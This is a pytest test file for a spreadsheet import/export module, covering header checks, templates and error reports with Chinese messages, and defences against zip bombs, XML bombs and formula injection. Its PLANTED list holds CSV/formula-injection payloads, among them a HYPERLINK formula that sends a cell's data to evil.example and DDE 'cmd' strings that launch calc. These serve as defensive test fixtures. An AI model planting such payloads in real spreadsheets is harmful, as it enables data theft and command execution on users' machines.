"""Excel ledgers and imports (anjian/core/excel.py): the header check and its Chinese errors."""

import datetime
import re
import time
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from anjian.core.excel import (
    EXAMPLE_MARK,
    Column,
    ExcelError,
    RowProblems,
    SheetRows,
    error_report,
    invalid_choice,
    read_rows,
    write_ledger,
    write_template,
)
from testsupport import hostile_xlsx

COLUMNS = [
    Column("name", "单位名称", required=True, example="上海示例有限公司"),
    Column("code", "统一社会信用代码", required=True, example="91310110MA1G000000"),
    Column("grade", "监管等级", choices=("A", "B", "C"), example="B"),
    Column("employees", "从业人数", example=10),
    Column("id", "系统编号", importable=False),
]


def xlsx(*rows) -> BytesIO:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    buffer = BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def read(*rows, max_rows=100) -> SheetRows:
    return read_rows(xlsx(*rows), columns=COLUMNS, max_rows=max_rows)


def error_of(*rows, max_rows=100) -> str:
    with pytest.raises(ExcelError) as caught:
        read(*rows, max_rows=max_rows)
    return str(caught.value)


def test_it_reads_rows_keyed_by_header_with_their_excel_row_numbers():
    sheet = read(
        ["单位名称", "统一社会信用代码", "监管等级"],
        ["甲公司", "A1", "B"],
        ["乙公司", "A2", None],
    )
    assert sheet.headers == ["单位名称", "统一社会信用代码", "监管等级"]
    assert sheet.rows == [
        (2, {"单位名称": "甲公司", "统一社会信用代码": "A1", "监管等级": "B"}),
        (3, {"单位名称": "乙公司", "统一社会信用代码": "A2", "监管等级": None}),
    ]


def test_blank_rows_are_skipped_but_row_numbers_stay_those_of_the_sheet():
    sheet = read(
        ["单位名称", "统一社会信用代码"],
        ["甲公司", "A1"],
        [None, "  "],
        ["丙公司", "A3"],
    )
    assert [number for number, _values in sheet.rows] == [2, 4]


def test_required_marks_and_spaces_in_headers_are_ignored():
    sheet = read([" 单位名称* ", "统一社会信用代码*"], ["甲公司", "A1"])
    assert sheet.headers == ["单位名称", "统一社会信用代码"]


def test_export_only_columns_are_accepted_and_optional_columns_may_be_missing():
    sheet = read(["系统编号", "单位名称", "统一社会信用代码"], [17, "甲公司", "A1"])
    assert sheet.rows[0][1]["系统编号"] == 17


def test_a_file_that_is_not_xlsx_is_refused():
    for content in (b"hello, this is text", b"PK\x03\x04 not really a zip", b""):
        with pytest.raises(ExcelError) as caught:
            read_rows(BytesIO(content), columns=COLUMNS, max_rows=10)
        assert str(caught.value).startswith("无法读取文件：请上传由模板填写的 .xlsx 文件")


def test_an_empty_workbook_is_refused():
    assert error_of() == "文件为空：第一行应为表头"


def test_a_blank_header_row_is_refused():
    assert error_of([None, None], ["甲公司", "A1"]) == "文件为空：第一行应为表头"


def test_a_header_row_without_data_is_refused():
    assert error_of(["单位名称", "统一社会信用代码"]) == "文件中没有数据行（表头以下为空）"
    assert error_of(["单位名称", "统一社会信用代码"], [None, ""]) == (
        "文件中没有数据行（表头以下为空）"
    )


def test_missing_required_columns_are_named():
    message = error_of(["单位名称", "监管等级"], ["甲公司", "B"])
    assert message.startswith("表头与模板不一致。")
    assert "缺少必填列：统一社会信用代码" in message
    assert message.endswith("。请下载最新模板。")


def test_unknown_columns_are_named():
    message = error_of(["单位名称", "统一社会信用代码", "备注", "负责人"], ["甲公司", "A1", "", ""])
    assert "无法识别的列：备注、负责人" in message
    assert "缺少必填列" not in message


def test_duplicate_columns_are_named():
    message = error_of(["单位名称", "统一社会信用代码", "单位名称"], ["甲公司", "A1", "甲"])
    assert "重复的列：单位名称" in message


def test_every_header_problem_is_reported_at_once():
    message = error_of(["单位名称", "单位名称", "备注"], ["甲", "乙", "丙"])
    assert "缺少必填列：统一社会信用代码" in message
    assert "无法识别的列：备注" in message
    assert "重复的列：单位名称" in message


def test_a_file_with_too_many_rows_is_refused():
    rows = [["单位名称", "统一社会信用代码"]] + [[f"公司{i}", f"A{i}"] for i in range(4)]
    assert read(*rows, max_rows=4).rows[-1][0] == 5
    assert error_of(*rows, max_rows=3) == "文件超过 3 行，请拆分后分批导入"


def test_blank_rows_do_not_count_towards_the_row_limit():
    rows = [
        ["单位名称", "统一社会信用代码"],
        ["甲", "A1"],
        [None, None],
        [None, None],
        ["乙", "A2"],
    ]
    assert len(read(*rows, max_rows=2).rows) == 2


# --- writing -----------------------------------------------------------------------------------


def test_a_ledger_has_fixed_columns_and_an_about_sheet_and_reads_back():
    class Row:
        def __init__(self, name, code, employees):
            self.name, self.code, self.employees = name, code, employees

    columns = [
        Column("name", "单位名称", required=True, export=lambda r: r.name),
        Column("code", "统一社会信用代码", required=True, export=lambda r: r.code),
        Column("employees", "从业人数", export=lambda r: r.employees),
        Column("id", "系统编号", importable=False, export=lambda r: 1),
    ]
    buffer = BytesIO()
    count = write_ledger(
        buffer,
        title="台账",
        columns=columns,
        objects=[Row("甲公司", "A1", Decimal("12")), Row("乙公司", "A2", None)],
        about=[("导出人", "测试")],
    )
    assert count == 2
    workbook = load_workbook(BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == ["台账", "导出说明"]
    values = list(workbook["台账"].iter_rows(values_only=True))
    assert values[0] == ("单位名称", "统一社会信用代码", "从业人数", "系统编号")
    assert values[1] == ("甲公司", "A1", 12, 1)
    assert list(workbook["导出说明"].iter_rows(values_only=True)) == [
        ("导出人", "测试"),
        ("记录数", "2"),
    ]
    buffer.seek(0)
    sheet = read_rows(buffer, columns=columns, max_rows=10)
    assert [values["单位名称"] for _number, values in sheet.rows] == ["甲公司", "乙公司"]


def test_ledger_datetimes_are_written_in_shanghai_time():
    columns = [Column("at", "时间", export=lambda r: r)]
    moment = datetime.datetime(2026, 1, 1, 16, 30, tzinfo=datetime.UTC)
    buffer = BytesIO()
    write_ledger(buffer, title="t", columns=columns, objects=[moment], about=[])
    sheet = load_workbook(BytesIO(buffer.getvalue())).worksheets[0]
    assert sheet["A2"].value == datetime.datetime(2026, 1, 2, 0, 30)


def template() -> bytes:
    return write_template(
        title="导入", columns=COLUMNS, notes=["第一行为表头"], lists={"监管等级": ["A", "B", "C"]}
    )


def test_a_template_has_the_importable_headers_a_marked_example_and_the_notes():
    workbook = load_workbook(BytesIO(template()))
    assert workbook.sheetnames == ["导入", "可选值", "填写说明"]
    rows = list(workbook["导入"].iter_rows(values_only=True))
    assert rows[0] == ("单位名称", "统一社会信用代码", "监管等级", "从业人数")
    assert rows[1] == ("【示例】上海示例有限公司", "91310110MA1G000000", "B", 10)
    assert workbook["导入"]["A2"].comment.text.startswith("示例行：导入时自动跳过")
    validations = workbook["导入"].data_validations.dataValidation
    assert [str(v.sqref) for v in validations] == ["C2:C20001"]
    guide = list(workbook["填写说明"].iter_rows(values_only=True))
    assert ("单位名称（必填）", None) in guide  # no note: an empty cell
    assert (None, "第一行为表头") in guide
    assert any(
        line[1] and line[1].startswith("第 2 行是示例（第一格以“【示例】”开头）") for line in guide
    )


def test_the_templates_example_row_is_skipped_not_imported_nor_an_error():
    workbook = load_workbook(BytesIO(template()))
    workbook["导入"].append(["甲公司", "A1", "C", 5])
    buffer = BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    sheet = read_rows(buffer, columns=COLUMNS, max_rows=10)
    assert sheet.rows == [
        (3, {"单位名称": "甲公司", "统一社会信用代码": "A1", "监管等级": "C", "从业人数": 5})
    ]
    assert sheet.example_rows == [2]


def test_a_template_with_only_its_example_row_has_no_data():
    with pytest.raises(ExcelError) as caught:
        read_rows(BytesIO(template()), columns=COLUMNS, max_rows=10)
    assert str(caught.value) == "文件中只有模板的示例行（第 2 行），没有要导入的数据"


def test_only_the_mark_at_the_start_of_the_first_cell_makes_an_example_row():
    sheet = read(
        ["单位名称", "统一社会信用代码"],
        [EXAMPLE_MARK + "乙公司", "A2"],
        [f" {EXAMPLE_MARK}丙公司", "A3"],
        ["示例公司", "A4"],  # a real name that happens to start with 示例
        ["丁公司【示例】", EXAMPLE_MARK],
    )
    assert sheet.example_rows == [2, 3]
    assert [number for number, _values in sheet.rows] == [4, 5]


def test_the_error_report_lists_only_failed_rows_with_their_messages():
    sheet = read(["单位名称", "统一社会信用代码"], ["甲公司", "A1"], ["乙公司", "A2"])
    content = error_report(columns=COLUMNS, sheet=sheet, errors={3: ["代码无效", "名称重复"]})
    rows = list(load_workbook(BytesIO(content)).worksheets[0].iter_rows(values_only=True))
    assert rows == [
        ("原行号", "单位名称", "统一社会信用代码", "错误说明"),
        (3, "乙公司", "A2", "代码无效；名称重复"),
    ]


def test_the_error_report_of_every_row_marks_only_the_failed_ones():
    sheet = read(["单位名称", "统一社会信用代码"], ["甲公司", "A1"], ["乙公司", "A2"])
    content = error_report(columns=COLUMNS, sheet=sheet, errors={3: ["代码无效"]}, every_row=True)
    rows = list(load_workbook(BytesIO(content)).worksheets[0].iter_rows(values_only=True))
    assert rows[1:] == [(2, "甲公司", "A1", None), (3, "乙公司", "A2", "代码无效")]


def test_a_corrected_error_report_reads_back_without_its_own_columns():
    sheet = read(
        ["单位名称", "统一社会信用代码", "监管等级"], ["甲公司", "A1", "B"], ["乙公司", "A2", "X"]
    )
    content = error_report(columns=COLUMNS, sheet=sheet, errors={3: ["【监管等级】“X”无效"]})
    workbook = load_workbook(BytesIO(content))
    workbook.worksheets[0]["D2"] = "C"  # the fix
    buffer = BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    again = read_rows(buffer, columns=COLUMNS, max_rows=10)
    assert again.headers == ["原行号", "单位名称", "统一社会信用代码", "监管等级", "错误说明"]
    assert again.rows == [(2, {"单位名称": "乙公司", "统一社会信用代码": "A2", "监管等级": "C"})]


# --- row problems ------------------------------------------------------------------------------


def test_a_cell_keeps_its_first_problem_and_problems_follow_the_column_order():
    problems = RowProblems(COLUMNS)
    assert not problems
    problems.add("employees", "应为整数")
    problems.add("grade", "“X”无效")
    problems.add("grade", "这个字段是必填项。")  # the same cell again: dropped
    problems.add(None, "整行重复")
    problems.add("name", "这个字段是必填项。")
    problems.add("unknown", "不属于任何列")
    assert problems and "grade" in problems and "code" not in problems
    assert problems.messages() == [
        "【单位名称】这个字段是必填项。",
        "【监管等级】“X”无效",
        "【从业人数】应为整数",
        "整行重复",
        "不属于任何列",
    ]


def test_an_invalid_choice_names_the_allowed_values():
    assert invalid_choice("X", ("A", "B", "C", "D")) == "“X”无效，可选：A、B、C、D"


# --- hostile files (issue 9): each ends quickly with a Chinese message -------------------------

HEADERS = ["单位名称", "统一社会信用代码", "监管等级"]
ROW = ["甲公司", "A1", "B"]
# Words a message may contain; anything else in Latin letters is a parser's English leaking out.
ALLOWED_WORDS = {"Excel", "xlsx", "XML", "MB"}


def hostile_error(kind: str, seconds: float = 2.0) -> str:
    """The ExcelError message for hostile file ``kind``, asserting the reader stopped in time."""
    content = hostile_xlsx.HOSTILE[kind](HEADERS, ROW)
    # CPU time of this process: what the reader costs, whatever else the machine is doing
    # (a loaded CI machine doubles wall time; a file that never ends costs minutes of CPU).
    started = time.process_time()
    with pytest.raises(ExcelError) as caught:
        read_rows(BytesIO(content), columns=COLUMNS, max_rows=100)
    elapsed = time.process_time() - started
    assert elapsed < seconds, f"{kind}: {elapsed:.2f} s"
    message = str(caught.value)
    assert not [w for w in re.findall(r"[A-Za-z]{2,}", message) if w not in ALLOWED_WORDS], message
    return message


@pytest.mark.parametrize("kind", ["huge_dimension", "empty_rows", "far_row"])
def test_a_sheet_that_never_ends_is_stopped_at_the_scan_limit(kind):
    message = hostile_error(kind)
    assert message.startswith("表格共有超过 10100 行（含空行）")


@pytest.mark.parametrize("kind", ["truncated", "external_entity", "billion_laughs"])
def test_a_sheet_that_is_not_valid_xml_is_refused_in_chinese(kind):
    assert hostile_error(kind).startswith("无法读取文件：表格内容已损坏")


def test_a_zip_bomb_is_refused_before_it_is_inflated():
    message = hostile_error("zip_bomb")
    assert message.startswith("文件解压后超过 256 MB")


def test_a_part_that_inflates_a_thousandfold_is_refused_before_it_is_read():
    assert hostile_error("compressed_rows").startswith("文件解压后是压缩前的")


def test_a_package_of_thousands_of_parts_is_refused():
    assert hostile_error("many_entries").startswith("文件结构异常")


def test_declared_dimensions_are_ignored_and_only_the_templates_columns_are_read():
    content = hostile_xlsx.workbook(
        hostile_xlsx.sheet(
            hostile_xlsx._header_row(HEADERS) + hostile_xlsx._data_row(2, ROW),
            dimension="A1:XFD1048576",
        )
    )
    sheet = read_rows(BytesIO(content), columns=COLUMNS, max_rows=10)
    assert sheet.rows == [(2, {"单位名称": "甲公司", "统一社会信用代码": "A1", "监管等级": "B"})]
    assert len(sheet.headers) < 100  # the template's columns and a margin, not 16,384


def test_openpyxl_parses_with_defusedxml():
    import openpyxl.xml
    from openpyxl.xml import functions

    assert openpyxl.xml.DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")


# --- formula injection (issue 9): strings are written as text, numbers and dates as they are ---

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&C2,"张三")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cells(content: bytes, planted: list[str]) -> None:
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    texts = {c.value: c for c in found if isinstance(c.value, str)}
    for value in planted:
        assert value in texts, value
        assert texts[value].data_type == "s"
        assert texts[value].quotePrefix, value  # Excel keeps it text when the cell is edited


def test_a_ledger_writes_formula_like_strings_as_text_and_numbers_as_numbers():
    day = datetime.date(2026, 3, 1)
    moment = datetime.datetime(2026, 3, 1, 8, 30)
    rows = [[text, -5, Decimal("1.5"), day, moment, "普通文字"] for text in PLANTED]
    columns = [Column(f"c{i}", f"列{i}", export=lambda r, i=i: r[i]) for i in range(6)]
    buffer = BytesIO()
    write_ledger(buffer, title="台账", columns=columns, objects=rows, about=[("说明", PLANTED[0])])
    assert_text_cells(buffer.getvalue(), PLANTED)
    sheet = load_workbook(BytesIO(buffer.getvalue())).worksheets[0]
    assert [c.value for c in sheet[2]][1:] == [
        -5,
        1.5,
        datetime.datetime(2026, 3, 1),
        moment,
        "普通文字",
    ]
    assert [c.data_type for c in sheet[2]][1:] == ["n", "n", "d", "d", "s"]
    assert not sheet["F2"].quotePrefix


def test_the_error_report_writes_the_uploaded_formula_as_text():
    sheet = SheetRows(
        headers=["单位名称", "统一社会信用代码"],
        rows=[
            (n, {"单位名称": text, "统一社会信用代码": "A1"}) for n, text in enumerate(PLANTED, 2)
        ],
    )
    errors = {n: [text] for n, text in enumerate(PLANTED, 2)}
    assert_text_cells(error_report(columns=COLUMNS, sheet=sheet, errors=errors), PLANTED)


def test_a_template_writes_formula_like_choices_and_examples_as_text():
    columns = [
        Column("name", "单位名称", example="甲公司"),  # the first cell carries the example mark
        Column("remark", "备注", example=PLANTED[0]),
        Column("grade", "监管等级"),
    ]
    content = write_template(
        title="导入", columns=columns, notes=[PLANTED[1]], lists={"监管等级": PLANTED[2:]}
    )
    assert_text_cells(content, PLANTED)


def test_a_templates_formula_like_first_example_stays_text_behind_the_mark():
    columns = [Column("name", "单位名称", example=PLANTED[0])]
    content = write_template(title="导入", columns=columns, notes=[], lists={})
    cell = load_workbook(BytesIO(content)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (EXAMPLE_MARK + PLANTED[0], "s")
    assert [c.coordinate for c in cells(content) if c.data_type == "f"] == []
